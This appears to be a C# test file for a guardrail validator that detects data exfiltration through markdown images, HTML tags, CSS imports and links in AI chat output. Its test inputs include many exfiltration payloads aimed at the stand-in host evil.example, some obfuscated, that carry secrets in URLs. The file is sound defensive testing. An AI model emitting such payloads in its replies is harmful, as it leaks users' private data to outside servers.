using Hymba.Validation.Exfiltration;

namespace Hymba.Validation.Tests.Exfiltration;

public sealed class ExfiltrationValidatorTests
{
    private static readonly ExfiltrationValidator Validator = new();

    [Fact]
    public void Cases_are_flagged_as_expected()
    {
        foreach (GuardrailCase item in GuardrailCase.Read("markdown_exfiltration.garak"))
        {
            Assert.True(Contract.Find(Validator, item.Text).Count > 0 == item.Flag, item.Text);
        }
    }

    [Theory]
    [InlineData("![x](//evil.example/p.png?d=secret)", ExfiltrationRules.Image)]
    [InlineData("![x](<https://evil.example/p.png?d=a secret>)", ExfiltrationRules.Image)]
    [InlineData("![x](\n https://evil.example/p.png?d=abc \"title\")", ExfiltrationRules.Image)]
    [InlineData("![x](&#104;ttps://evil.example/p.png?d=secret)", ExfiltrationRules.Image)]
    [InlineData("![x](&#47;&#47;evil.example/p.png?d=secret)", ExfiltrationRules.Image)]
    [InlineData("![x](\\\\evil.example/p.png?d=secret)", ExfiltrationRules.Image)]
    [InlineData("![ref]\n\n[ref]: https://evil.example/?d=abc\n", ExfiltrationRules.Image)]
    [InlineData("{\"md\": \"![ref]\\n\\n[ref]: https://evil.example/?d=abc\\n\"}", ExfiltrationRules.Image)]
    [InlineData("![a][]\n\n[a]: https://evil.example/?d=abc ", ExfiltrationRules.Image)]
    [InlineData("[![x](https://evil.example/?d=abc)](https://good.example)", ExfiltrationRules.Image)]
    [InlineData("![x](https://c2VjcmV0MTIzNDU2.evil.example/x.png)", ExfiltrationRules.Image)]
    [InlineData("<img src=\"https://evil.example/?q=abc\">", ExfiltrationRules.Html)]
    [InlineData("<IMG\nsrc=https://evil.example/?q=abc", ExfiltrationRules.Html)]
    [InlineData("<img srcset='a.png 1x, //evil.example/?q=abc 2x'>", ExfiltrationRules.Html)]
    [InlineData("<script src=//evil.example/x.js></script>", ExfiltrationRules.Html)]
    [InlineData("<iframe src='https://evil.example/'></iframe>", ExfiltrationRules.Html)]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>", ExfiltrationRules.Html)]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example/'>", ExfiltrationRules.Html)]
    [InlineData("<div style=\"background: url(https://evil.example/?q=abc)\">", ExfiltrationRules.Css)]
    [InlineData("<style>@import 'https://evil.example/x.css';</style>", ExfiltrationRules.Css)]
    [InlineData("[see](https://evil.example/?q=jane@example.com)", ExfiltrationRules.Link)]
    public void Every_way_out_is_found(string text, string rule)
    {
        Assert.Contains(Contract.Find(Validator, "See: " + text), finding => finding.Rule == rule);
        Contract.CheckStreaming(Validator, "See: " + text + " and <b>more</b> [1] text.");
        Assert.Empty(Contract.Find(new ExfiltrationValidator(new() { AllowedHosts = ["evil.example"] }), text));
    }

    [Theory]
    [InlineData("![x](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fsecret)")]
    [InlineData("![x](https://a:secret@img.shields.io/badge/a.svg)")]
    [InlineData("![x](https://img.shields.io.evil.example/?d=secret)")]
    public void Hosts_that_nobody_reads_carry_nothing_on(string text) => Assert.NotEmpty(Contract.Find(Validator, text));

    [Theory]
    [InlineData("So:\n\n```html\n<script src=\"https://code.jquery.com/jquery.js\"></script>\n<img src=\"https://evil.example/?grayscale\">\n```\n")]
    [InlineData("Write `<iframe src=\"https://www.youtube.com/embed/x\">` or `![x](https://evil.example/?d=abc)`.")]
    public void What_is_shown_as_code_fetches_nothing(string text)
    {
        IReadOnlyList<Finding> findings = Contract.Find(Validator, text);
        Assert.Equal(2, findings.Count);
        Assert.All(findings, finding => Assert.Equal(Severity.Low, finding.Severity));
        Contract.CheckStreaming(Validator, text);
    }

    [Theory]
    [InlineData("<pre>\n\n```\n<img src=\"https://evil.example/?d=abc\">\n```\n</pre>")]
    [InlineData("a ` b\n`![x](https://evil.example/?d=abc)`")]
    [InlineData("`a` ![x](https://evil.example/?d=abc) `b`")]
    public void What_may_be_read_otherwise_is_a_way_out(string text)
    {
        Assert.Equal(Severity.High, Assert.Single(Contract.Find(Validator, text)).Severity);
        Contract.CheckStreaming(Validator, text);
    }

    [Theory]
    [InlineData("![logo](https://good.example/logo.png)")]
    [InlineData("![logo](https://good.example/logo.png?w=800&q=80&fm=webp)")]
    [InlineData("![chart](chart.png?x=secret)")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)")]
    [InlineData("[search](https://www.example.com/search?q=water+cycle&hl=en)")]
    [InlineData("![CI](https://img.shields.io/badge/build-passing-green.svg?style=flat-square&logo=github)")]
    [InlineData("![x](https://picsum.photos/200/300?grayscale)")]
    [InlineData("<style>@import url('https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap');</style>")]
    [InlineData("<img src='logo.png' alt='it''s'>")]
    [InlineData("List<int> a; if (a < b && c > d) curl(https://x.example/?a=b)")]
    public void Harmless_references_pass(string text)
    {
        Assert.Empty(Contract.Find(Validator, text));
        Contract.CheckStreaming(Validator, text);
    }

    [Fact]
    public void Streaming_settles_what_the_whole_text_says()
    {
        foreach (GuardrailCase item in GuardrailCase.Read("markdown_exfiltration.garak"))
        {
            Contract.CheckStreaming(Validator, item.Text + "\n\nThat is all.");
        }
    }

    [Fact]
    public void Prose_passes_and_is_hardly_held_back()
    {
        foreach (string text in Prose.Replies)
        {
            Assert.Empty(Contract.Find(Validator, text));
            Assert.InRange(Contract.Held(Validator, text), 0, 4);
            Contract.CheckStreaming(Validator, text);
        }
    }

    [Theory]
    [InlineData("![")]
    [InlineData("[](")]
    [InlineData("[a][")]
    [InlineData("<a ")]
    [InlineData("<img src=\"")]
    [InlineData("url(")]
    public void Hostile_repetition_stays_linear(string unit) =>
        Contract.Find(Validator, string.Concat(Enumerable.Repeat(unit, 200_000 / unit.Length)));
}
